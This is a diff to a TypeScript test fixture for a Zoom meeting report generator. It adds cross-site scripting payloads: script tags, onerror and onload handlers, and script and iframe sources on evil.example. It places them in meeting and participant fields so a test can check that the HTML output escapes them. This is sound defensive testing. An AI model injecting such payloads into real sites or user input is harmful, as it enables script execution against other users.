@@ -55,3 +55,28 @@ export function reportOptions(h: SimHarness, o: Partial<MakeReportOptions> = {})
     ...o,
   };
 }
+
+/** Strings a participant (or whoever names a meeting) controls, each trying to break out of HTML. */
+export const HOSTILE = {
+  name: `</svg></title><script>alert("x")</script><img src=x onerror=alert(1)>`,
+  quote: `Zoë "O'Brien" & <b>co</b>`,
+  topic: `Sync <script src="https://evil.example/x.js"></script>`,
+  location: `</desc><svg onload=alert(2)>`,
+  dataCenter: `"><iframe src=//evil.example>`,
+};
+
+/** WEEKLY's second instance with hostile strings where Zoom passes on people's input. */
+export const HOSTILE_WEEKLY: RawScenario = {
+  ...WEEKLY,
+  meetings: [
+    {
+      ...WEEKLY.meetings![1]!,
+      topic: HOSTILE.topic,
+      participants: [
+        ...WEEKLY.meetings![1]!.participants!,
+        { user_id: '16783360', name: HOSTILE.name, join: '2m', location: HOSTILE.location },
+        { user_id: '16784384', name: HOSTILE.quote, join: '4m', data_center: HOSTILE.dataCenter },
+      ],
+    },
+  ],
+};
